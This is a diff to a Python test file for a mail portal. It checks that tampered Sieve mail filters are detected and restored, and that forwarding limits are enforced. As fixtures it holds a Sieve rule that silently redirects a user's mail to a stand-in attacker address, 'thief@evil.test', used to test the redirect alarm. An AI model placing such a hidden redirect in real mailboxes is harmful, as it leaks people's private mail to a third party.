@@ -10,10 +10,19 @@ from accounts.models import Mailbox, RedirectAlarm
 from audit.chain import record
 from fleet.dovecot import Dovecot
 from mailservers import credentials, drift, outbox
-from mailservers.models import Change, DriftCheck, Server
+from mailservers.drivers.base import Limits
+from mailservers.models import Change, DriftCheck, Observation, Server
 from tests.mailservers.drivers.contract import OTHER_HASH, new_account
-from tests.mailservers.drivers.mailbox import keep_own_script, script_text, scripts, webmail
-from vacation.models import AutoReply
+from tests.mailservers.drivers.mailbox import (
+    deliver,
+    keep_own_script,
+    script_text,
+    scripts,
+    subjects,
+    webmail,
+)
+from vacation.forward_forms import ForwardingForm
+from vacation.models import AutoReply, Forwarding, OwnScripts
 from vacation.services import save_auto_reply
 
 OWN_RULES = 'require ["copy"];\n# rule:[on]\nif true\n{\n\tredirect :copy "thief@evil.test";\n}\n'
@@ -143,10 +152,77 @@ def test_a_script_that_was_rewritten_is_restored(told, live, dovecot, committed,
     keep_own_script(dovecot, live.login, "portal", ours + 'redirect "thief@evil.test";\n')
     assert told() == {"script": ["Mail is forwarded there, and not here."]}
     assert RedirectAlarm.objects.get().targets == ["thief@evil.test"]
+    assert Observation.objects.get(aspect="script").restoring_told == [
+        "The rule “#2” is kept in the script “portal-own-1”, switched off."
+    ]
     with committed():
         drift.restore_ours(live, "script", seen=mark(live, "script"), by=webmaster)
-    assert script_text(dovecot, live.login, "portal") == ours
+    assert "thief" not in script_text(dovecot, live.login, "portal")
+    assert 'if false # true\n{\n\tredirect "thief' in script_text(dovecot, live.login, "portal-own-1")
     assert told() == {}
+
+
+def test_restoring_says_what_moves_and_the_filter_still_runs(told, live, dovecot, committed, webmaster):
+    ours = script_text(dovecot, live.login, "portal")
+    filing = '# rule:[Newsletters]\nif header :contains "subject" "news"\n{\n\tfileinto :create "News";\n}\n'
+    changed = ours.replace('require "include";', 'require ["include", "fileinto", "mailbox"];') + filing
+    keep_own_script(dovecot, live.login, "portal", changed)
+    assert told() == {"script": ["The portal's script was rewritten there."]}
+    assert Observation.objects.get(aspect="script").restoring_told == [
+        "Your filter “Newsletters” moves to the script “portal-own-1” and still runs."
+    ]
+    with committed():
+        drift.restore_ours(live, "script", seen=mark(live, "script"), by=webmaster)
+    assert told() == {}
+    deliver(dovecot, replace(new_account(), login=live.login, address=live.address), "news")
+    assert subjects(dovecot, live.login, "News") == ["news"]
+    assert OwnScripts.objects.get(mailbox=live).active == "portal-own-1"
+
+
+def test_a_script_included_further_down_that_is_gone_is_told(told, live, dovecot, committed, webmaster):
+    keep_own_script(dovecot, live.login, "nested", "keep;", active=False)
+    keep_own_script(dovecot, live.login, "main", 'require "include";\ninclude "nested";\n')
+    replaced = "The auto-reply does not run there: it was switched off, or its script replaced."
+    assert told() == {"script": [replaced]}
+    with committed():
+        drift.restore_ours(live, "script", seen=mark(live, "script"), by=webmaster)
+    assert told() == {}
+    with webmail(dovecot, live.login) as client:
+        client.delete_script("nested")
+    gone = (
+        "The script “main” includes “nested”, which is not there: the mail server would run none of them."
+        " Please mend it in webmail."
+    )
+    assert told() == {"script": [gone]}
+    with committed():
+        change = drift.restore_ours(live, "script", seen=mark(live, "script"), by=webmaster)
+    change.refresh_from_db()
+    assert change.state == "failed"
+    assert gone in change.reason_text
+
+
+def test_own_rules_that_stand_against_it_are_noted(told, live, dovecot, committed, webmaster):
+    own = 'require "reject";\nif address "from" "a@b.test" { reject "No."; }\n'
+    redirecting = "".join(f'redirect "bert{number}@example.test"; ' for number in range(2))
+    own += f'if header "subject" "invoice" {{ {redirecting}}}\n'
+    with webmail(dovecot, live.login) as client:
+        client.put_script("own", own)
+        client.set_active("own")
+    told()
+    with committed():
+        drift.restore_ours(live, "script", seen=mark(live, "script"), by=webmaster)
+    noted = OwnScripts.objects.get(mailbox=live)
+    assert [note.partition(":")[0] for note in noted.notes_told] == [
+        "Your script “own” refuses mail and lets other rules go on"
+    ]
+    # Before anything is saved it is known that these would be too many.
+    live = Mailbox.objects.select_related("own_scripts").get()
+    form = ForwardingForm(
+        {"enabled": "on", "keep_copy": "on", "version": "0", "addresses": "a@example.test b@example.test"},
+        instance=Forwarding(mailbox=live),
+        limits=Limits(redirects=3),
+    )
+    assert "Together these are 4 addresses" in str(form.errors["addresses"])
 
 
 def test_a_redirect_among_the_users_own_rules(told, live, dovecot, webmaster, mailoutbox):
@@ -174,3 +250,25 @@ def test_many_scripts_are_read_over_few_connections(told, live, dovecot, server,
         )
     keep_own_script(dovecot, live.login, "roundcube", OWN_REPLY)
     assert list(told()) == ["script"]
+
+
+def test_the_portals_script_is_deleted_in_webmail_and_switched_off_the_own_one_runs_again(
+    told, live, dovecot, committed, owner, webmaster
+):
+    keep_own_script(dovecot, live.login, "roundcube", "keep;")
+    told()
+    with committed():
+        drift.restore_ours(live, "script", seen=mark(live, "script"), by=webmaster)
+    assert OwnScripts.objects.get(mailbox=live).active == "roundcube"
+    with webmail(dovecot, live.login) as client:
+        client.set_active("")
+        client.delete_script("portal")
+    told()
+    for times in range(2):
+        with committed():
+            reply = AutoReply(mailbox=live, enabled=False, text="Back on Monday.")
+            save_auto_reply(reply, seen_version=times + 1, by=owner)
+        assert scripts(dovecot, live.login) == {"roundcube": not times}
+        # What somebody switches off after that stays off.
+        with webmail(dovecot, live.login) as client:
+            client.set_active("")
